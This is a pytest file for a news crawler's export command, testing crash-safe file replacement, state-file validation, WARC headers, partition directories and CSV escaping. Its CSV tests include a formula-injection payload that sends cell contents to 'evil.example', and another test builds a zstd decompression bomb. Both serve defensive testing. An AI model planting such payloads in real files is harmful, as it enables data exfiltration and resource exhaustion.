"""The export under faults (issue 25): `kill -9` while it writes onto an earlier good file, a state file of
another database or with an impossible cursor, cells a spreadsheet would run, a gzip-served page's headers in
WARC, outlet names in any script as partition directories, and kept bodies that are damaged or inflate past the
crawl's size cap. Each asserts the outcome: the old file intact, the refusal in one line with nothing written,
the cell quoted, the header true, one directory per outlet, the damaged page named and the rest exported."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import signal
import sqlite3
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import unquote

import pytest
from sqlalchemy import insert

from storage.common.files import temporaries
from storage.db import Store
from storage.models import Article, Citation
from storage.raw import compress, keep_raw
from storage.repository import OutletRow, sync_outlets
from tests.support.articles import store_article
from tests.support.cli import newswire
from tests.support.paths import PROJECT

WORDS = ("the", "port", "city", "said", "on", "tuesday", "that", "ministers", "trade", "talks", "rain", "power",
         "union", "court", "budget", "farmers")  # fmt: skip
KILL_ROWS = 12_000  # enough that every format is still writing when killed (about 20 MB of text)
WARC_ROWS = 4_000


def _paragraphs(rng: random.Random) -> list[str]:
    return [" ".join(rng.choices(WORDS, k=40)).capitalize() + "." for _ in range(64)]


def _add_articles(db_url: str, count: int, *, first: int = 0, changed: int = 1) -> None:
    """`count` synthetic articles of two outlets, ~1.6 KB of text each, stored as store batch `changed`."""
    rng = random.Random(first)
    paragraphs = _paragraphs(rng)
    start = datetime(2025, 1, 1, tzinfo=UTC)
    with Store(db_url, migrate=True) as store, store.sessions.begin() as session:
        ids = sync_outlets(
            session,
            [
                OutletRow("Wire One", "wire-one", "https://one.example/"),
                OutletRow("Wire Two", "wire-two", "https://two.example/"),
            ],
        )
        outlet_ids = list(ids.values())
        rows = []
        for number in range(first, first + count):
            url = f"https://one.example/news/{number}"
            text = "\n\n".join(rng.sample(paragraphs, 6)) + f" ({number})"
            when = start + timedelta(minutes=number)
            rows.append(
                {"outlet_id": outlet_ids[number % 2], "url": url, "canonical_url": url, "title": f"Story {number}",
                 "authors": ["A. Reporter"], "tags": ["port"], "text": text, "html": "", "text_hash": f"{number:064x}",
                 "published": when, "fetched_at": when + timedelta(hours=1), "changed": changed, "language": "en"}
            )  # fmt: skip
        session.execute(insert(Article), rows)


@pytest.fixture(scope="module")
def big_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('big') / 'store.db'}"
    _add_articles(url, KILL_ROWS)
    return url


@pytest.fixture(scope="module")
def warc_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Fewer rows: WARC is written at a fifth of Parquet's speed, so these still take over a second."""
    url = f"sqlite:///{tmp_path_factory.mktemp('warc') / 'store.db'}"
    _add_articles(url, WARC_ROWS)
    return url


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _export_process(db_url: str, *args: str) -> subprocess.Popen[bytes]:
    command = [sys.executable, "-m", "crawler", "export", "--db", db_url, *args, "-q"]
    return subprocess.Popen(command, cwd=PROJECT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)


def _size(path: Path) -> int:
    return path.stat().st_size if path.is_file() else sum(f.stat().st_size for f in path.rglob("*.parquet"))


def _bytes_written(out: Path, before: tuple[int, int] | None) -> int | None:
    """What the export has written so far, wherever it writes (its temporaries, or `out` itself when it writes
    in place), or None before it started writing (or while a file is being renamed under us)."""
    try:
        parts = temporaries(out)
        if parts:
            return sum(_size(part) for part in parts)
        now = os.stat(out)
        if before is not None and (now.st_ino, now.st_mtime_ns) == before:
            return None
        return _size(out)
    except FileNotFoundError:
        return None


def _kill_while_writing(db_url: str, out: Path, args: tuple[str, ...], threshold: int) -> bool:
    """Start the export, SIGKILL it once it has written `threshold` bytes (0: as soon as it starts writing);
    whether it was still running when killed."""
    stat = os.stat(out) if out.exists() else None
    before = (stat.st_ino, stat.st_mtime_ns) if stat else None
    process = _export_process(db_url, *args)
    deadline = time.monotonic() + 60
    try:
        while process.poll() is None and time.monotonic() < deadline:
            written = _bytes_written(out, before)
            if written is not None and written >= threshold:
                os.kill(process.pid, signal.SIGKILL)
                process.wait()
                return process.returncode == -signal.SIGKILL
            time.sleep(0.001)
        return False
    finally:
        if process.poll() is None:
            process.kill()
        process.wait()
        assert process.stderr is not None
        process.stderr.close()


def _rows_in(path: Path, fmt: str) -> int:
    if fmt == "parquet":
        import pyarrow.parquet as pq

        return pq.read_metadata(path).num_rows
    if fmt == "warc":
        from warcio.archiveiterator import ArchiveIterator

        with open(path, "rb") as stream:
            return sum(record.rec_type == "metadata" for record in ArchiveIterator(stream))
    with open(path, encoding="utf-8", newline="") as handle:
        return sum(1 for _ in csv.DictReader(handle)) if fmt == "csv" else sum(1 for _ in handle)


@pytest.mark.parametrize(
    ("fmt", "name"), [("parquet", "corpus.parquet"), ("jsonl", "corpus.jsonl"), ("warc", "c.warc.gz")]
)
def test_an_export_killed_while_it_writes_leaves_the_earlier_file_intact(request, tmp_path, fmt, name):
    """kill -9 as soon as it starts writing, once it has written something, and half-way: the good file of the
    export before is untouched each time. A killed writer leaves its temporary (nothing runs after SIGKILL);
    the next export of that file removes it."""
    store, rows = (
        (request.getfixturevalue("warc_store"), WARC_ROWS)
        if fmt == "warc"
        else (request.getfixturevalue("big_store"), KILL_ROWS)
    )
    out = tmp_path / name
    args = ("--format", fmt, "--out", str(out))
    first = newswire("export", "--db", store, *args)
    assert first.exit_code == 0, first.stderr
    good, size = _digest(out), out.stat().st_size
    killed = [_kill_while_writing(store, out, args, threshold) for threshold in (0, 1, size // 2)]
    assert sum(killed) >= 2, killed  # at least two kills landed while it was writing
    assert _digest(out) == good
    assert temporaries(out), "a killed export leaves its temporary beside the file"
    again = newswire("export", "--db", store, *args)
    assert again.exit_code == 0, again.stderr
    assert temporaries(out) == [] and _rows_in(out, fmt) == rows


def test_a_killed_partitioned_export_leaves_no_directory_and_the_next_one_cleans_up(big_store, tmp_path):
    import pyarrow.dataset as ds

    out = tmp_path / "parts"
    args = ("--format", "parquet", "--partition", "outlet", "--out", str(out))
    assert _kill_while_writing(big_store, out, args, 1)
    assert not out.exists() and temporaries(out)
    done = newswire("export", "--db", big_store, *args)
    assert done.exit_code == 0, done.stderr
    assert temporaries(out) == [] and ds.dataset(out, format="parquet").count_rows() == KILL_ROWS
    assert sorted(p.name for p in out.iterdir()) == ["wire-one", "wire-two"]


def test_a_killed_incremental_export_keeps_its_state_and_card(tmp_path):
    """The state moves only after the output and the card are in place: killed before, all three are as the
    last export left them, and the next export exports what the killed one did not."""
    db_url = f"sqlite:///{tmp_path / 'store.db'}"
    _add_articles(db_url, 20)
    out, state, card = tmp_path / "new.parquet", tmp_path / "state.json", tmp_path / "README.md"
    args = ("--format", "parquet", "--out", str(out), "--state", str(state), "--card", str(card))
    assert newswire("export", "--db", db_url, *args).exit_code == 0
    before = {path: _digest(path) for path in (out, state, card)}
    _add_articles(db_url, KILL_ROWS, first=20, changed=2)
    killed = [_kill_while_writing(db_url, out, args, threshold) for threshold in (0, 1)]
    assert any(killed)
    assert {path: _digest(path) for path in (out, state, card)} == before
    assert json.loads(state.read_text())["changed"] == 1
    done = newswire("export", "--db", db_url, *args)
    assert done.exit_code == 0, done.stderr
    assert _rows_in(out, "parquet") == KILL_ROWS and json.loads(state.read_text())["changed"] == 2
    assert f"{KILL_ROWS:,} news articles" in card.read_text()
    assert all(temporaries(path) == [] for path in (out, state, card))


# --- the state file ------------------------------------------------------------------------------------------


def _small_store(path: Path) -> str:
    db_url = f"sqlite:///{path}"
    _add_articles(db_url, 3)
    return db_url


def test_a_state_file_of_another_database_is_refused_in_one_line(tmp_path):
    first, second = _small_store(tmp_path / "a.db"), _small_store(tmp_path / "b.db")
    state, out = tmp_path / "state.json", tmp_path / "out.jsonl"
    assert newswire("export", "--db", first, "--state", str(state), "--out", str(out)).exit_code == 0
    kept = state.read_bytes()
    out.unlink()
    other = newswire("export", "--db", second, "--state", str(state), "--out", str(out))
    assert other.exit_code == 2 and other.stderr.count("\n") == 1, other.stderr
    assert other.stderr.startswith("newswire: error: --state:") and "another database" in other.stderr
    assert not out.exists() and state.read_bytes() == kept
    # a copy of the database is the same database: its cursor holds there
    copy = tmp_path / "copy.db"
    copy.write_bytes((tmp_path / "a.db").read_bytes())
    same = newswire("export", "--db", f"sqlite:///{copy}", "--state", str(state))
    assert same.exit_code == 0 and same.stdout == "", same.stderr


@pytest.mark.parametrize("cursor", ["1e999", "-1", "123456789012345678901234567", "NaN", '"7"', "true", "[1]"])
def test_an_impossible_cursor_is_refused_in_one_line_and_nothing_is_written(tmp_path, cursor):
    db_url = _small_store(tmp_path / "a.db")
    state, out = tmp_path / "state.json", tmp_path / "out.parquet"
    state.write_text(f'{{"changed": {cursor}, "records": 3, "exported_at": "2025-07-01T00:00:00+00:00"}}')
    result = newswire("export", "--db", db_url, "--format", "parquet", "--state", str(state), "--out", str(out))
    assert result.exit_code == 2 and result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith("newswire: error: --state:") and "'changed'" in result.stderr
    assert not out.exists() and temporaries(out) == []


def test_a_state_file_written_before_states_named_their_database(tmp_path):
    """An older state (no database id) is taken as this database's and bound to it, unless its cursor is past
    every store batch here (then it cannot be this database's)."""
    db_url = _small_store(tmp_path / "a.db")
    state = tmp_path / "state.json"
    state.write_text('{"changed": 0, "records": 0, "exported_at": "2025-07-01T00:00:00+00:00"}')
    taken = newswire("export", "--db", db_url, "--state", str(state))
    assert taken.exit_code == 0 and len(taken.stdout.splitlines()) == 3
    assert len(json.loads(state.read_text())["database"]) == 32
    state.write_text('{"changed": 9, "records": 0, "exported_at": "2025-07-01T00:00:00+00:00"}')
    ahead = newswire("export", "--db", db_url, "--state", str(state))
    assert ahead.exit_code == 2 and "past this database's newest store batch (9 > 1)" in ahead.stderr


# --- CSV cells a spreadsheet would run ----------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path):
    db_url = f"sqlite:///{tmp_path / 'a.db'}"
    with Store(db_url, migrate=True) as store, store.sessions.begin() as session:
        [outlet_id] = sync_outlets(session, [OutletRow("=Wire", "wire", "https://wire.example/")]).values()
        for n, formula in enumerate(FORMULAS):
            store_article(
                session, outlet_id, f"https://wire.example/{n}", f"{formula} body {n}", title=formula,
                authors=[formula], description=formula, published_offset=-300, changed=1,
            )  # fmt: skip
        session.add(Citation(article_id=1, name="@SUM(1,2)", kind="attribution", evidence="said @SUM(1,2)"))
    result = newswire("export", "--db", db_url, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [row["title"] for row in rows] == ["'" + f for f in FORMULAS]
    assert {row["outlet"] for row in rows} == {"'=Wire"} and all(row["text"].startswith("'") for row in rows)
    assert [row["description"] for row in rows] == ["'" + f for f in FORMULAS]
    assert [json.loads(row["authors"]) for row in rows] == [[f] for f in FORMULAS]  # a JSON cell starts with [
    assert {row["published_offset"] for row in rows} == {"-300"}  # a number is not a formula
    jsonl = [json.loads(line) for line in newswire("export", "--db", db_url).stdout.splitlines()]
    assert [r["title"] for r in jsonl] == FORMULAS  # JSON Lines carries the text as it is
    graph = tmp_path / "graph.csv"  # a cited outlet's name is what a page wrote
    result = newswire("export", "--db", db_url, "--citations", "--format", "csv", "--out", str(graph))
    assert result.exit_code == 0, result.stderr
    cited = list(csv.DictReader(io.StringIO(graph.read_text(encoding="utf-8"), newline="")))
    assert cited == [{"citing": "'=Wire", "cited": "'@SUM(1,2)", "articles": "1"}] and temporaries(graph) == []


# --- WARC: the headers describe the body held --------------------------------------------------------------


def _page(n: int) -> bytes:
    return ("<html><body>" + f"<p>The harbour authority said quay {n} opens next spring.</p>" * 60).encode()


def _store_with_kept_pages(path: Path, bodies: list[tuple[str, tuple[tuple[str, str], ...], bytes]]) -> str:
    db_url = f"sqlite:///{path}"
    when = datetime(2025, 7, 23, 15, tzinfo=UTC)
    with Store(db_url, migrate=True) as store, store.sessions.begin() as session:
        [outlet_id] = sync_outlets(session, [OutletRow("Wire", "wire", "https://wire.example/")]).values()
        for url, headers, body in bodies:
            article = store_article(session, outlet_id, url, f"Text of {url}.", changed=1)
            keep_raw(session, article.id, 1, compress(url, 200, headers, body), when)
    return db_url


def _responses(path: Path) -> dict[str, tuple[dict[str, str], bytes]]:
    from warcio.archiveiterator import ArchiveIterator

    found = {}
    with open(path, "rb") as stream:
        for record in ArchiveIterator(stream):
            if record.rec_type == "response":
                headers = dict(record.http_headers.headers)
                found[record.rec_headers.get_header("WARC-Target-URI")] = (headers, record.content_stream().read())
    return found


def test_a_warc_response_of_a_gzip_served_page_describes_the_body_it_holds(tmp_path):
    import gzip

    plain, coded = _page(1), gzip.compress(_page(2))
    db_url = _store_with_kept_pages(
        tmp_path / "a.db",
        [
            # as Scrapy keeps it: de-chunked and gunzipped, Content-Encoding gone, the wire's length kept
            ("https://wire.example/gzip", (("Content-Type", "text/html"), ("Content-Length", "410"),
                                           ("Transfer-Encoding", "chunked")), plain),
            # an older version kept Content-Encoding over the decoded body too
            ("https://wire.example/old", (("Content-Encoding", "gzip"), ("Content-Length", "410")), plain),
            # a coding Scrapy did not undo: the body is still coded, and the header says so
            ("https://wire.example/coded", (("Content-Encoding", "gzip"), ("Content-Length", str(len(coded)))), coded),
        ],
    )  # fmt: skip
    out = tmp_path / "c.warc.gz"
    assert newswire("export", "--db", db_url, "--format", "warc", "--out", str(out)).exit_code == 0
    check = subprocess.run([sys.executable, "-m", "warcio.cli", "check", str(out)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    responses = _responses(out)
    headers, body = responses["https://wire.example/gzip"]
    assert body == plain and headers["Content-Length"] == str(len(plain))
    assert headers["X-Crawler-Content-Length"] == "410" and headers["X-Crawler-Transfer-Encoding"] == "chunked"
    assert "Transfer-Encoding" not in headers and "Content-Encoding" not in headers
    headers, body = responses["https://wire.example/old"]
    assert body == plain and headers["Content-Length"] == str(len(plain)) and "Content-Encoding" not in headers
    assert headers["X-Crawler-Content-Encoding"] == "gzip"
    headers, body = responses["https://wire.example/coded"]
    assert headers["Content-Encoding"] == "gzip" and headers["Content-Length"] == str(len(coded))
    assert body == _page(2)  # warcio decodes what the header says is coded
    assert list(headers).count("Content-Length") == 1


# --- WARC: a damaged kept body --------------------------------------------------------------------------------


def test_a_damaged_or_inflating_kept_body_is_named_and_the_rest_exported(tmp_path):
    """One kept body cut short, one that is not zstd, one 33 KB frame that inflates to 1 GiB: each article is
    written without its response record and named in one warning line; the others keep theirs; memory stays
    bounded by the crawl's size cap."""
    import zstandard

    urls = [f"https://wire.example/{n}" for n in range(5)]
    db_url = _store_with_kept_pages(
        tmp_path / "a.db", [(url, (("Content-Type", "text/html"),), _page(n)) for n, url in enumerate(urls)]
    )
    stream, zeros = zstandard.ZstdCompressor(level=1).compressobj(), b"\0" * 2**24
    bomb = b"".join(stream.compress(zeros) for _ in range(64)) + stream.flush()  # 1 GiB in 33 KB
    assert len(bomb) < 40_000
    database = sqlite3.connect(tmp_path / "a.db")
    with database:
        digests = {url: digest for url, digest in database.execute("SELECT url, digest FROM raw_fetches")}
        data = dict(database.execute("SELECT digest, data FROM raw_bodies"))
        damage = {urls[1]: data[digests[urls[1]]][:-20], urls[2]: b"not zstd at all", urls[3]: bomb}
        for url, broken in damage.items():
            database.execute("UPDATE raw_bodies SET data = ? WHERE digest = ?", (broken, digests[url]))
    database.close()
    out = tmp_path / "c.warc.gz"
    command = [sys.executable, "-m", "crawler", "export", "--db", db_url, "--format", "warc", "--out", str(out)]
    result = subprocess.run(
        ["bash", "-c", 'ulimit -v 1500000 && exec "$@"', "bash", *command],
        capture_output=True, text=True, cwd=PROJECT, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if "unreadable" in line]
    assert len(warnings) == 1 and "Traceback" not in result.stderr, result.stderr
    assert warnings[0].count("article ") == 3 and all(url in warnings[0] for url in damage)
    assert "3 kept response(s) unreadable" in warnings[0] and "cap" in warnings[0]
    assert set(_responses(out)) == {urls[0], urls[4]}
    from warcio.archiveiterator import ArchiveIterator

    with open(out, "rb") as handle:
        assert sum(record.rec_type == "metadata" for record in ArchiveIterator(handle)) == 5


# --- partitions by outlet: a directory per outlet, whatever its script -----------------------------------------

OUTLETS = [
    ("Al-Khabar", "al-khabar"),
    ("الخبر", "outlet"),
    ("Новости Дня", "dnya"),  # slugs as an older registry may have stored them: unique, whatever they say
    ("新华社", "xinhua"),
    ("东方日报", "dongfang"),
    ("Le Monde", "le-monde"),
    ("LE  MONDE!", "le-monde-2"),
]


def test_a_partition_per_outlet_has_a_distinct_readable_directory_for_every_script(tmp_path):
    import pyarrow.dataset as ds

    db_url = f"sqlite:///{tmp_path / 'a.db'}"
    with Store(db_url, migrate=True) as store, store.sessions.begin() as session:
        ids = sync_outlets(session, [OutletRow(name, slug, f"https://{slug}.example/") for name, slug in OUTLETS])
        for (name, slug), outlet_id in zip(OUTLETS, ids.values(), strict=True):
            for n in range(2):
                store_article(session, outlet_id, f"https://{slug}.example/{n}", f"{name} story {n}.", changed=1)
    out = tmp_path / "parts"
    result = newswire("export", "--db", db_url, "--format", "parquet", "--partition", "outlet", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    directories = sorted(p.name for p in out.iterdir())
    assert len(directories) == len(OUTLETS) and all(d.isascii() for d in directories)
    by_directory = {}
    for directory in directories:
        outlets = set(ds.dataset(out / directory, format="parquet").to_table().column("outlet").to_pylist())
        assert len(outlets) == 1, (directory, outlets)
        by_directory[outlets.pop()] = directory
    assert by_directory["Al-Khabar"] == "al-khabar" and by_directory["Le Monde"] == "le-monde"
    assert by_directory["LE  MONDE!"] == "le-monde-2"  # the same words: told apart, in outlet order
    assert unquote(by_directory["الخبر"]) == "الخبر" and unquote(by_directory["Новости Дня"]) == "новости-дня"
    assert unquote(by_directory["新华社"]) == "新华社"
    assert ds.dataset(out, format="parquet").count_rows() == 2 * len(OUTLETS)
    import duckdb  # a glob over percent-encoded names, as the card's data_files is read

    assert duckdb.sql(f"SELECT count(DISTINCT outlet) FROM read_parquet('{out}/*/*.parquet')").fetchall() == [(7,)]


# --- PostgreSQL: the same state checks and writers -------------------------------------------------------------


def test_on_postgresql_the_state_names_its_database_and_partitions_are_per_outlet(pg_schema: str, tmp_path: Path):
    import pyarrow.dataset as ds

    from tests.support.db import PG_URL

    db_url = f"{PG_URL}?options=-csearch_path%3D{pg_schema}"
    with Store(db_url, migrate=True) as store, store.sessions.begin() as session:
        ids = sync_outlets(session, [OutletRow(name, slug, f"https://{slug}.example/") for name, slug in OUTLETS[:4]])
        for (name, slug), outlet_id in zip(OUTLETS[:4], ids.values(), strict=True):
            store_article(session, outlet_id, f"https://{slug}.example/1", f"{name} story.", title="=1+1", changed=1)
    state = tmp_path / "state.json"
    first = newswire("export", "--db", db_url, "--format", "csv", "--state", str(state))
    assert first.exit_code == 0 and len(list(csv.DictReader(io.StringIO(first.stdout)))) == 4, first.stderr
    assert "'=1+1" in first.stdout and json.loads(state.read_text())["changed"] == 1
    other = newswire("export", "--db", _small_store(tmp_path / "a.db"), "--state", str(state))
    assert other.exit_code == 2 and "another database" in other.stderr
    state.write_text('{"changed": 123456789012345678901234567, "exported_at": "x"}')
    huge = newswire("export", "--db", db_url, "--state", str(state))
    assert huge.exit_code == 2 and huge.stderr.startswith("newswire: error: --state:")
    out = tmp_path / "parts"
    parts = newswire("export", "--db", db_url, "--format", "parquet", "--partition", "outlet", "--out", str(out))
    assert parts.exit_code == 0, parts.stderr
    assert len(list(out.iterdir())) == 4 and ds.dataset(out, format="parquet").count_rows() == 4


# --- the atomic replacement itself ---------------------------------------------------------------------------


def test_a_new_writer_removes_only_the_temporaries_of_dead_writers(tmp_path: Path):
    """A temporary is locked while its writer lives: the sweep of a second writer of the same file leaves it (both
    then put theirs in place, the last one winning), and removes one nobody holds (a killed writer's)."""
    from storage.common.files import Replacement

    path = tmp_path / "corpus.jsonl"
    dead_file, dead_directory = tmp_path / ".corpus.jsonl.abc123.tmp", tmp_path / ".corpus.jsonl.def456.tmp"
    dead_file.write_bytes(b"half")
    dead_directory.mkdir()
    (dead_directory / "part-0.parquet").write_bytes(b"half")
    alive = Replacement(path)
    alive.open().write(b"first")
    second = Replacement(path)
    assert temporaries(path) == sorted([alive.temporary, second.temporary])  # the dead ones gone, the live kept
    second.open().write(b"second")
    alive.commit()
    second.commit()
    assert path.read_bytes() == b"second" and temporaries(path) == []
    with pytest.raises(RuntimeError), Replacement(path) as failed:
        failed.open().write(b"never")
        raise RuntimeError("a write that fails")
    assert path.read_bytes() == b"second" and temporaries(path) == []
